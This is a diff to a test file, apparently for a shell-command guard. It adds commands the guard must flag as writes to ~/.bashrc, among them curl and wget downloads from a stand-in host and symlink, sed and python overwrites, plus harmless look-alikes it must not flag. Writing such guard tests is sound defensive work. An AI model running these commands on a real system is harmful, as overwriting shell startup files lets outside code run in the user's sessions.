@@ -644,6 +644,14 @@ def test_where_no_container_guards_a_write_through_a_glob_or_expansion_is_read_w
         "cd $X; cp x .b*rc",
         "history -w ~/.b?shrc",
         "dd if=x of=~/.bash$x",
+        "cd ~ && curl -sSLO https://example.com/.bashrc",
+        "cd ~ && wget https://example.com/.bashrc",
+        "cd ~ && ln -sf /tmp/.bashrc",
+        "rename x .bashrc ~/x",
+        "cp -b -S rc x ~/.bash",
+        "sed -irc 1p ~/.bash",
+        "split -a1 -l1 x ~/.bashr",
+        'cd ~ && python3 -c \'open(".bashrc", "a").write("x")\'',
     ]
     if platform == "win32":
         held += [
@@ -685,6 +693,11 @@ def test_where_no_container_guards_a_write_through_a_glob_or_expansion_is_read_w
         "sed -n '/x/w out.txt' f",
         "cd $X; cp x *.*",
         "f=build; rm -rf $f",
+        "curl -O https://example.com/file.tgz",
+        "git clone https://github.com/x/y",
+        "ln -s ../lib/x.so",
+        "sed -i.bak s/a/b/ f.txt",
+        "python3 -c 'open(\".bashrc\")'",  # in a project: its own file
     ):
         assert not names_protected(command, members, cwd=project, bare=False), command
 
